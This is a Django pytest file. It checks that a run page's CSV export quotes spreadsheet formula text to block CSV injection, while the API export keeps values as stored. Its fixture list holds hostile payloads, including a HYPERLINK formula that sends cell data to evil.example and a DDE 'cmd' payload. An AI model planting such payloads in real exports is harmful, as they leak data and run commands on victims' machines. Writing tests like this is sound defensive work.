"""The run page's CSV download opens in a spreadsheet: text that would run as a formula
there (CSV injection) is quoted; the API and ``run export`` keep every value as stored."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from runs.models import RunItem, RunLane
from runs.seeding import seed_run

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_formula_text_is_quoted_in_the_pages_csv_and_kept_in_the_apis(personas):
    run = seed_run(workspace=personas.workspace, items=4, lanes=1, name="nightly")
    items = list(RunItem.objects.filter(run=run).order_by("id"))
    for item, formula in zip(items, FORMULAS, strict=True):
        RunItem.objects.filter(pk=item.pk).update(case_key=formula)
    RunLane.objects.filter(run=run).update(deployment_name="=1+1")
    client = Client()
    client.force_login(personas.viewer)
    page = client.get(f"/runs/{run.pk}/export/csv/")
    api = personas.api(personas.viewer).get(f"/api/v1/workspaces/acme/runs/{run.pk}/export?format=csv")
    assert page.status_code == 200 and api.status_code == 200
    page_rows = _rows(b"".join(page.streaming_content))[1:]
    api_rows = _rows(b"".join(api.streaming_content))[1:]
    assert [(r[0], r[2]) for r in page_rows] == [("'=1+1", "'" + f) for f in FORMULAS]
    assert [(r[0], r[2]) for r in api_rows] == [("=1+1", f) for f in FORMULAS]
    # numbers stay numbers, and the rest of each row is the API's
    assert [r[3:] for r in page_rows] == [r[3:] for r in api_rows]
